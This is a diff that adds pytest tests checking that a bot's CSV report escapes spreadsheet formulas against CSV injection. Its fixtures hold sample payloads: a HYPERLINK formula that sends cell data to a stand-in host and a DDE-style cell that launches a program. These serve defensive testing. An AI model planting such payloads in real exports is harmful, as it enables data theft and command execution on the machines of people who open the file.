@@ -13,6 +13,7 @@ from sqlalchemy import Engine
 from sqlalchemy.orm import Session
 
 from bot.cli.main import main
+from bot.cli.report import spreadsheet_safe
 from bot.conversation import Conversation
 from bot.dialog.events import Command, CommandEvent, Incoming, TextEvent
 from bot.reports import BadPeriod, parse_period, since_ago
@@ -317,6 +318,34 @@ def test_report_unanswered_csv_has_a_header_and_one_row_per_group(
     ]
     assert main(["report", "unanswered", "--since", "9d", "--csv"]) == 0
     assert len(_csv(capsys.readouterr().out)) == 4
+
+
+def test_report_unanswered_csv_shows_formulas_as_text_not_live_formulas(
+    cli_database: Engine, store: Store, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """OWASP CSV injection: a message a spreadsheet would run starts with an apostrophe."""
+    messages = [
+        '=HYPERLINK("http://evil.example/?d="&A1,"ver cita")',
+        "+52 962 123 4567 llamen por favor",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3 cuanto cuesta el permiso",
+        "hay trabajo en tapachula = sí",
+    ]
+    recent = dt.datetime.now(dt.UTC) - dt.timedelta(hours=1)
+    _unanswered(store, [("es", text) for text in messages], recent)
+    assert main(["report", "unanswered", "--csv"]) == 0
+    examples = {row[2] for row in _csv(capsys.readouterr().out)[1:]}
+    assert examples == {"'" + text for text in messages[:-1]} | {messages[-1]}
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_a_csv_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
+    assert spreadsheet_safe(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", ["hola", " =1", "", "a=1", 42, -3, 0.5])
+def test_other_csv_cells_are_left_as_they_are(cell: object) -> None:
+    assert spreadsheet_safe(cell) == cell
 
 
 def test_report_unanswered_prints_a_readable_table(
